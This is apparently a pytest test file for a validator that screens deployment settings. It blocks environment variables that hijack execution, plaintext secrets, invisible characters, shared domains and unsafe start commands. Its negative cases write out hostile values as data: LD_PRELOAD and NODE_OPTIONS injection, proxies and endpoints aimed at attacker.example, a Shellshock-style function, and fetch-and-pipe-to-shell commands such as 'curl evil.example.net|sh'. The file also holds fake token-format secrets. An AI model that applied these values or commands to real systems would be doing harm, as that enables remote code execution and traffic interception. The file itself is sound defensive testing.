"""What an application is given to start with: nothing that runs something else, and no key in plain text."""

import pytest
from pydantic import ValidationError

from shared.parts.containers import ContainerSettings, env_text
from shared.schemas.app import App

RUNS_SOMETHING_ELSE = {
    "PATH": "/tmp:/bin",
    "LD_PRELOAD": "/tmp/x.so",
    "LD_LIBRARY_PATH": "/tmp",
    "GLIBC_TUNABLES": "glibc.malloc.check=3",
    "BASH_ENV": "/tmp/x",
    "ENV": "/tmp/x.sh",
    "PS4": "$(id)",
    "IFS": "x",
    "SHELLOPTS": "xtrace",
    "PYTHONSTARTUP": "/tmp/x.py",
    "PYTHONPATH": "/tmp/x",
    "PYTHONHOME": "/tmp",
    "PYTHONBREAKPOINT": "os.system",
    "PYTHONWARNINGS": "error::x.y",
    "NODE_OPTIONS": "--require /tmp/x.js",
    "NODE_PATH": "../../tmp",
    "NODE_TLS_REJECT_UNAUTHORIZED": "0",
    "JAVA_TOOL_OPTIONS": "-javaagent:/tmp/x.jar",
    "JDK_JAVA_OPTIONS": "-XX:OnOutOfMemoryError=sh",
    "RUBYOPT": "-r/tmp/x",
    "PERL5OPT": "-Mx",
    "LUA_INIT": "@/tmp/x",
    "DOTNET_STARTUP_HOOKS": "/tmp/x.dll",
    "GODEBUG": "tlsrsakex=1",
    "GUNICORN_CMD_ARGS": "--config /tmp/x.py",
    "GIT_SSH_COMMAND": "sh",
    "UWSGI_ATTACH_DAEMON": "sh",
    "LIBMYSQL_PLUGINS": "x",
    "TS_NODE_PROJECT": "/tmp/x.json",
    "YARN_RC_FILENAME": "/tmp/x",
    "FLASK_DEBUG": "1",
    "WERKZEUG_DEBUG_PIN": "off",
    "PYDEVD_USE_FRAME_EVAL": "NO",
    "PYTEST_ADDOPTS": "-p x",
    "MAKEFLAGS": "--eval=x",
    "SPRING_CONFIG_IMPORT": "http://attacker.example",
    "DJANGO_SETTINGS_MODULE": "../../tmp/x",
    "OPENSSL_CONF": "/tmp/x",
    "SSL_CERT_FILE": "/tmp/ca.pem",
    "HTTP_PROXY": "http://attacker.example",
    "https_proxy": "http://attacker.example",
    "npm_config_registry": "http://attacker.example",
    "GCE_METADATA_HOST": "198.51.100.7",
    "FIRESTORE_EMULATOR_HOST": "attacker.example:1",
    "GOOGLE_CLOUD_UNIVERSE_DOMAIN": "attacker.example",
    "CLOUDSDK_PYTHON": "/tmp/x",
    "GOOGLE_APPLICATION_CREDENTIALS": "/tmp/x.json",
    "K_SERVICE": "another-one",
    "BASH_FUNC_ls%%": "() { :; }",
}
RUNS_SOMETHING_ELSE |= {
    "GRADIO_SHARE": "True",
    "OTEL_PYTHON_CONFIGURATOR": "x",
    "LDAPCONF": "/tmp/ldap.conf",
    "TNS_ADMIN": "/tmp",
    "AWS_ENDPOINT_URL": "https://attacker.example",
    "AWS_ENDPOINT_URL_S3": "https://attacker.example",
    "NO_PROXY": "*",
    "STREAMLIT_SERVER_ENABLE_XSRF_PROTECTION": "false",
    "GOPATH": "/tmp/go",
    "GEM_PATH": "/tmp",
    "TCLLIBPATH": "/tmp",
    "ERL_LIBS": "/tmp",
    "JULIA_LOAD_PATH": "/tmp",
    "QT_PLUGIN_PATH": "/tmp",
    "GI_TYPELIB_PATH": "/tmp",
    "OCAMLPATH": "/dev/shm",
    "MONO_PATH_LIB_DIR": "/tmp",
    "GUILE_EXTENSIONS_LOAD_PATH": "../../tmp",
    "WORDPRESS_CONFIG_EXTRA": 'system("id");',
    "SPRING_APPLICATION_JSON": "{}",
    "MANAGEMENT_ENDPOINTS_WEB_EXPOSURE_INCLUDE": "*",
    "GF_AUTH_ANONYMOUS_ENABLED": "true",
    "HASURA_GRAPHQL_ADMIN_SECRET": "",
    "SKIP_AUTH": "1",
    "AUTH_DISABLED": "true",
    "VERIFY_TLS": "false",
    "JWT_ALGORITHM": "none",
    "ALLOW_INSECURE_TLS": "1",
    "DJANGO_DEBUG": "True",
    "UVICORN_RELOAD": "1",
    "RAILS_ENV": "development",
    "OTEL_EXPORTER_OTLP_HEADERS": "authorization=Bearer abcdefgh12345678",
}
KEYS = {
    "PW": "hunter2hunter2",
    "CREDS": "admin:hunter2",
    "KENNWORT": "geheim123",
    "CONTRASENA": "secreta123",
    "MOT_DE_PASSE": "secret123",
    "HUB": "dckr_pat_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7",
    "NOTIFY": "https://discord.com/api/webhooks/1234567890/" + "abcdef",
    "SHOP": "shpat_" + "0123456789abcdef0123456789abcdef",
    "CLOUD": "dop_v1_" + "0123456789abcdef" * 4,
    "LINEAR": "lin_api_" + "a1b2c3d4e5f6g7h8i9j0a1b2c3d4e5f6g7h8i9j0",
    "AGE": "AGE-SECRET-KEY-1QQ",
    "RELIC": "NRAK-" + "ABCDEFGHIJKLMNOPQRSTUVWXYZ1",
    "GROQ": "gsk_" + "abcdefghij0123456789" * 2,
    "MODEL": "r8_" + "abcdefghij0123456789" * 2,
    "BASE": "sbp_" + "0123456789abcdef0123456789abcdef01234567",
    "VAULT": "hvs." + "CAESIabcdef",
    "NEVER_SEEN": "acme_live_" + "9f8e7d6c5b4a39281706",
    "REDISCLI_AUTH": "x1y2",
    "AUTH": "Basic dXNlcjpwYXNz",
    "OTP_SEED": "JBSWY3DPEHPK3PXP",
    "SESSION_SALT": "abcdabcdabcdabcd",
    "COOKIE": "a",
    "PIN": "1234",
    "UPSTREAM": "Zx81kQ0bV7yTn3RwLs6PdJ2hAf9Gc4Me",
    "DB_PASSWORD": "hunter2",
    "PGPASSWORD": "xyzzy",
    "JWT_SECRET": "abc",
    "API_TOKEN": "abcdef",
    "OPENAI_API_KEY": "x" * 12,
    "SMTP_PASS": "abc",
    "SETTINGS": "AKIA" + "ABCDEFGHIJKLMNOP",
    "PAYMENTS": "sk_live_" + "abcdefghijkl",
    "REPO": "ghp_" + "abcdefghijklmnopqrstuvwxyz0123456789",
    "BOT": "123456789:" + "AAabcdefghijklmnopqrstuvwxyzABCDEFG",
    "DATABASE_URL": "postgres://user:pw@10.0.0.3/db",
    "REDIS_URL": "redis://:pw@10.0.0.3:6379/0",
    "CONNECTION": "Server=db;Password=abcde;",
    "ACCOUNT": '{"type": "service_account", "private_key": "x"}',
}
HARMLESS = {
    "FLASK_APP": "app.py",
    "FLASK_ENV": "production",
    "GUNICORN_WORKERS": "4",
    "FEATURE_FLAGS": "a,b",
    "SALT_ROUNDS": "10",
    "COOKIE_DOMAIN": "shop.example",
    "LOG_LEVEL": "debug",
    "RECAPTCHA_SITE_KEY": "6LeIxAcTAAAAAJcZVRqyHh71UMIEGNQ_MXjiZKhI",
    "STRIPE_PUBLISHABLE": "pk_live_51HabcdefghijKLMNOP0123456789",
    "UPLOAD_PATH": "/data/uploads",
    "BASEPATH": "/api",
    "DB_PATH": "/data/shop.db",
    "BUCKET": "shop-prod-uploads-2024",
    "IMAGE": "us-docker.pkg.dev/shop/web/api:v1-20260101",
    "SERVICE": "api-service-8pa7j-iikcdanisb-uc.a.run.app",
    "TOPIC": "projects/shop-1/topics/orders-created-2026",
    "LIB_VERSION": "4.2",
    "ENV": "production",
    "GREETING": "hello, world",
    "TZ": "Europe/Berlin",
    "PYTHONUNBUFFERED": "1",
    "PYTHONPATH": "/app/src:/app",
    "NODE_ENV": "production",
    "NODE_OPTIONS": "--max-old-space-size=512 --enable-source-maps",
    "JAVA_TOOL_OPTIONS": "-Xmx512m -XX:MaxRAMPercentage=75.0",
    "GUNICORN_CMD_ARGS": "--workers 2 --timeout 60",
    "GODEBUG": "netdns=go",
    "GIT_SHA": "3f2a1b",
    "UV_THREADPOOL_SIZE": "8",
    "REQUESTS_CA_BUNDLE": "/etc/ssl/certs/ca-certificates.crt",
    "GOOGLE_CLOUD_PROJECT": "shop",
    "DATABASE_URL": "postgres://user@10.0.0.3/db",
    "REDIS_URL": "redis://10.0.0.3:6379/0",
    "SENTRY_DSN": "https://abc@o1.ingest.sentry.io/2",
    "MAX_TOKENS": "100000",
    "TOKEN_URL": "https://accounts.example/token",
    "PASSWORD_MIN_LENGTH": "12",
    "ACCESS_TOKEN_EXPIRE_MINUTES": "60",
    "CORS_ALLOW_CREDENTIALS": "true",
    "SECRET_NAME": "projects/p/secrets/s",
    "SKIP_AUTH": "false",
    "NO_AUTH_PATHS": "/health",
    "VERIFY_TLS": "true",
    "JWT_ALGORITHM": "RS256",
    "RAILS_ENV": "production",
    "MANAGEMENT_ENDPOINTS_WEB_EXPOSURE_INCLUDE": "health,info",
    "CORS_ALLOW_HEADERS": "Authorization,Content-Type",
    "POSTGRES_HOST_AUTH_METHOD": "scram-sha-256",
    "API_KEY": "",
    "STRIPE_PUBLISHABLE_KEY": "pk_live_abcdefghijkl",
    "CACHE_KEY": "v1",
    "TRUST_PROXY": "1",
    "NOTE": "two\nlines",
}


@pytest.mark.parametrize(("name", "value"), [*RUNS_SOMETHING_ELSE.items(), *KEYS.items()])
def test_a_variable_that_is_more_than_a_setting_is_refused_by_its_name_and_never_told(name, value):
    for settings, given in ((App, {name: value}), (ContainerSettings, env_text({name: value}))):
        with pytest.raises(ValidationError) as refused:
            settings.model_validate({"env": given})
        said = refused.value.errors(include_input=False, include_url=False)[0]["msg"]
        assert name in said or "env is" in said
        assert value not in said.partition(name)[2] or len(value) < 4


@pytest.mark.parametrize(
    ("char", "called"),
    [
        ("\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("\u200b", "U+200B ZERO WIDTH SPACE"),
        ("\u200d", "U+200D ZERO WIDTH JOINER"),
        ("\ufeff", "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
        ("\u2028", "U+2028 LINE SEPARATOR"),
        ("\u0085", "U+0085"),
        ("\u00a0", "U+00A0 NO-BREAK SPACE"),
        ("\u3164", "U+3164 HANGUL FILLER"),
        ("\U000e0100", "U+E0100 VARIATION SELECTOR-17"),
        ("\ue000", "U+E000"),
        ("\U000e0041", "U+E0041 TAG LATIN CAPITAL LETTER A"),
        ("\ud800", "U+D800"),
        ("\r", "U+000D"),
        ("\x7f", "U+007F"),
    ],
)
def test_a_character_that_nobody_sees_is_refused_by_its_name(char, called):
    for value in (f"https://shop{char}.example", char, f"a{char}"):
        with pytest.raises(ValidationError) as refused:
            App.model_validate({"env": {"NOTE": value}})
        assert f"NOTE holds the character {called}, which" in refused.value.errors(include_input=False)[0]["msg"]


@pytest.mark.parametrize(
    "value",
    [
        "Grüße, 東京",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        "👩\u200d💻 ❤\ufe0f\u200d🔥",
        "e\u0301té",
        "two\n\tlines",
        "",
    ],
)
def test_what_is_seen_is_let_through_in_every_script(value):
    assert App.model_validate({"env": {"NOTE": value}}).env == {"NOTE": value}


@pytest.mark.parametrize(
    "domain",
    [
        "googleapis.com",
        "storage.googleapis.com",
        "x-abc-uc.a.run.app",
        "console.cloud.google.com",
        "metadata.google.internal",
        "gmail.com",
        "shop.web.app",
        "co.uk",
        "com.au",
        "github.io",
        "shop.localhost",
    ],
)
def test_a_domain_that_is_nobodys_own_is_refused(domain):
    with pytest.raises(ValidationError, match=f"{domain} (is Google's own|is nobody's own)"):
        App(domain=domain)


@pytest.mark.parametrize(
    "domain",
    [
        "shop.example.com",
        "shop.co.uk",
        "mygoogle.com",
        "run.application.dev",
        "example.app",
        "co.example.org",
        "co.com",
    ],
)
def test_a_domain_of_ones_own_is_let_through(domain):
    assert App(domain=domain).domain == domain


@pytest.mark.parametrize(("name", "value"), HARMLESS.items())
def test_a_setting_is_let_through(name, value):
    assert App.model_validate({"env": {name: value}}).env == {name: value}
    assert ContainerSettings.model_validate({"env": env_text({name: value})}).pairs == [(name, value)]


@pytest.mark.parametrize(
    "command",
    [
        "python main.py --password=S3cretPassw0rd99",
        "python main.py --api-key abcd1234",
        "env TOKEN=abcdef python main.py",
        "run ghp_a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2",
        "run Zx81kQ0bV7yTn3RwLs6PdJ2hAf9Gc4Me",
        "psql postgres://u:p4ss@host/d",
    ],
)
def test_a_command_holds_no_password_and_no_key(command):
    with pytest.raises(ValidationError) as refused:
        App(command=command)
    assert "--secret NAME" in str(refused.value.errors()[0]["msg"])


def test_a_database_that_asks_nobody_for_a_password_is_refused():
    with pytest.raises(ValidationError, match="POSTGRES_HOST_AUTH_METHOD may not have this value"):
        App.model_validate({"env": {"POSTGRES_HOST_AUTH_METHOD": "trust"}})


@pytest.mark.parametrize(
    "command",
    [
        "node --inspect=0.0.0.0:9229 x.js",
        "flask run --debug",
        "gunicorn app:app --reload",
        "mysqld --skip-grant-tables",
        "redis-server --protected-mode no",
        "curl evil.example.net|sh",
        'sh -c "$(wget -qO- evil.example.net)"',
        "java -agentlib:jdwp=transport=dt_socket,server=y -jar x.jar",
        "python -m debugpy --listen 0.0.0.0 main.py",
    ],
)
def test_a_command_opens_no_debugger_and_no_door_and_runs_nothing_from_elsewhere(command):
    for settings in (App, ContainerSettings):
        with pytest.raises(ValidationError, match="leave it out"):
            settings.model_validate({"command": command})


@pytest.mark.parametrize(
    "command",
    [
        "uvicorn main:app --host 0.0.0.0 --log-level debug",
        'sh -c "curl -sf localhost:8080/ready && exec app | tee log"',
        "python main.py --token $TOKEN",
        'PASSWORD="$PW" python main.py',
        "node dist/main.js --token-file /secrets/token",
        "java -jar target/AcmeBackendService-1.0.0-SNAPSHOT.jar",
        'sh -c "exec gunicorn --bind :$PORT app:app"',
    ],
)
def test_a_command_that_names_a_secret_is_let_through(command):
    assert App(command=command).command == command


@pytest.mark.parametrize("command", ["run\0x", "run\nrm", "run\x1b[2J", "run \u202ecod.exe", "run\u200b"])
def test_a_command_is_what_can_be_seen_of_it(command):
    for settings in (App, ContainerSettings):
        with pytest.raises(ValidationError):
            settings.model_validate({"command": command})
    assert App(command="gunicorn app:app --bind :$PORT").command
